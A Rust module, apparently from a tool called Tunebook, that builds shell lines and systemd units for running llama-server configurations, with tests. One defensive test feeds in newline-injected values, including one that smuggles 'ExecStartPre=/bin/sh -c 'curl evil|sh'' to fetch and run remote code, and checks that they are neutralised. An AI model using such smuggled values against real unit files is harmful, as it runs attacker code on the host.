//! How to run a configuration outside Tunebook: the command line to paste
//! into a shell, a systemd unit ([`systemd`]), a llama-swap entry
//! ([`llama_swap`]) and a docker compose service ([`compose`]), each from
//! the command a trial stored ([`launch`]).

pub mod compose;
pub mod launch;
pub mod llama_swap;
pub mod systemd;

pub use launch::{Launch, PORT, start_timeout_s};

/// A configuration ready to run.
#[derive(Debug, Clone, PartialEq)]
pub struct Recipe {
    pub shell: String,
    pub unit: String,
    /// What it launches, what it is, and how long its start may take
    /// (seconds): what the other recipes are written from.
    pub launch: Launch,
    pub description: String,
    pub timeout: u64,
}

impl Recipe {
    /// As a llama-swap entry serving it as `model` (see [`llama_swap`]).
    pub fn llama_swap(&self, model: &str) -> Result<String, String> {
        llama_swap::entry(&self.launch, model, &self.description, self.timeout)
    }

    /// As a docker compose service named for `model` (see [`compose`]).
    pub fn compose(&self, model: &str) -> Result<String, String> {
        compose::service(&self.launch, &compose::service_name(model), self.timeout)
    }
}

/// The command line the server's own profile gives `model` with
/// `settings`, as a trial stores it (`{"program", "args", "env",
/// "display"}`): what a worker's trial records, since a worker reports what
/// it measured, never what to run. `None` where the profile is not this
/// server's, is an external endpoint, or refuses the settings; whether
/// the binary and model files are on this server does not matter.
pub fn planned_command(
    profiles: &[engine_bridge::Profile],
    profile: &str,
    model: &str,
    settings: &engine_bridge::Settings,
) -> Option<serde_json::Value> {
    let profile = profiles.iter().find(|p| p.name == profile)?;
    if profile.kind == engine_bridge::profile::EngineKind::External {
        return None;
    }
    // The worker has the files; this server need not.
    let spec = engine_bridge::engine::plan_elsewhere(profile, model, settings, 0).ok()?;
    Some(serde_json::json!({
        "program": spec.program,
        "args": spec.args,
        "env": spec.env,
        "display": spec.display(),
    }))
}

/// The recipes for a trial's stored command (`{"program", "args",
/// "env"}`), `load_ms` its measured load time; `None` for an external
/// endpoint.
pub fn recipe(command: &str, load_ms: Option<f64>, description: &str) -> Option<Recipe> {
    let launch = Launch::from_stored(command)?;
    let quote = |s: &str| shlex::try_quote(s).map(|q| q.into_owned()).unwrap_or_else(|_| s.into());
    let mut shell: Vec<String> =
        launch.env.iter().map(|(k, v)| format!("{k}={}", quote(v))).collect();
    shell.push(quote(&launch.program));
    shell.extend(launch.args.iter().map(|a| quote(a)));
    let timeout = start_timeout_s(load_ms);
    Some(Recipe {
        shell: shell.join(" "),
        unit: systemd::unit(&launch, description, timeout),
        launch,
        description: description.to_string(),
        timeout,
    })
}

/// The recipe for trial `t`, from the command stored for it; `None` for an
/// external endpoint or a trial with no command.
pub async fn of_trial(
    db: &crate::db::Db,
    t: &crate::trial::Trial,
) -> Result<Option<Recipe>, sqlx::Error> {
    let description = match t.study_id {
        Some(study) => {
            format!("{} {} (Tunebook study {study}, trial {})", t.profile, t.model, t.id)
        }
        None => format!("{} {} (Tunebook trial {})", t.profile, t.model, t.id),
    };
    let command = crate::db::trials::extras(db, t.id).await?.and_then(|e| e.command);
    Ok(command.and_then(|c| recipe(&c, t.value(tunebook_domain::Metric::LoadMs), &description)))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_workers_command_is_the_servers_profile_even_without_its_files() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p.toml");
        std::fs::write(
            &path,
            "name = \"gpu\"\nkind = \"llama-server\"\nbinary = \"/elsewhere/llama-server\"\n\
             [[models]]\nname = \"m\"\npath = \"/elsewhere/m.gguf\"\n",
        )
        .unwrap();
        let profiles = vec![engine_bridge::Profile::load(&path).unwrap()];
        let settings: engine_bridge::Settings = [("threads".into(), "4".into())].into();
        let command = planned_command(&profiles, "gpu", "m", &settings).unwrap();
        assert_eq!(command["program"], "/elsewhere/llama-server");
        let args = command["args"].to_string();
        assert!(args.contains("/elsewhere/m.gguf") && args.contains("\"-t\",\"4\""), "{args}");
        assert!(planned_command(&profiles, "other", "m", &settings).is_none());
        let bad: engine_bridge::Settings = [("threads".into(), "lots".into())].into();
        assert!(planned_command(&profiles, "gpu", "m", &bad).is_none());
    }

    #[test]
    fn a_unit_and_a_command_line_from_a_stored_command() {
        let command = serde_json::json!({
            "program": "/opt/llama.cpp/llama-server",
            "args": ["-m", "/models/my model.gguf", "--port", "41234", "-c", "8192", "-fa", "on"],
            "env": { "CUDA_VISIBLE_DEVICES": "0" },
        });
        let r = recipe(&command.to_string(), Some(95_000.0), "llama-server: 100% fast").unwrap();
        assert_eq!(
            r.shell,
            "CUDA_VISIBLE_DEVICES=0 /opt/llama.cpp/llama-server -m '/models/my model.gguf' --port 8080 -c 8192 -fa on"
        );
        assert!(r.unit.contains("Description=llama-server: 100%% fast\n"), "{}", r.unit);
        assert!(r.unit.contains("Environment=CUDA_VISIBLE_DEVICES=0\n"));
        assert!(
            r.unit.contains("ExecStart=/opt/llama.cpp/llama-server -m \"/models/my model.gguf\" --port 8080 -c 8192 -fa on\n"),
            "{}",
            r.unit
        );
        assert!(r.unit.contains("TimeoutStartSec=285\n"), "three times a 95 s load");
        // Started means healthy: the timeout bounds the load.
        assert!(r.unit.contains("ExecStartPost=/usr/bin/curl") && r.unit.contains("--retry 285"));
        assert!(r.unit.contains("http://127.0.0.1:8080/health\n"));
        assert!(!r.unit.contains("LimitMEMLOCK"), "no mlock asked");
        assert!(r.unit.contains("Restart=on-failure"));
        let quick = recipe(&command.to_string(), Some(1_500.0), "x").unwrap();
        assert!(quick.unit.contains("TimeoutStartSec=60\n"), "never under a minute");
        assert!(recipe("{\"url\": \"http://x\"}", None, "x").is_none(), "nothing to run");
    }

    #[test]
    fn no_value_starts_a_line_of_its_own() {
        let command = serde_json::json!({
            "program": "/opt/llama-server",
            "args": ["--alias", "x\nExecStartPre=/bin/sh -c 'curl evil|sh'"],
            "env": { "A": "1\nExecStartPre=/bin/true" },
        });
        let r = recipe(&command.to_string(), None, "d\nExecStartPre=/bin/false").unwrap();
        for line in r.unit.lines() {
            assert!(!line.starts_with("ExecStartPre"), "{}", r.unit);
        }
        // The shell line quotes every word: read back, it is the same words.
        let words = shlex::split(&r.shell).unwrap();
        assert_eq!(words[0], "A=1\nExecStartPre=/bin/true");
        assert_eq!(words[3], "x\nExecStartPre=/bin/sh -c 'curl evil|sh'");
    }
}
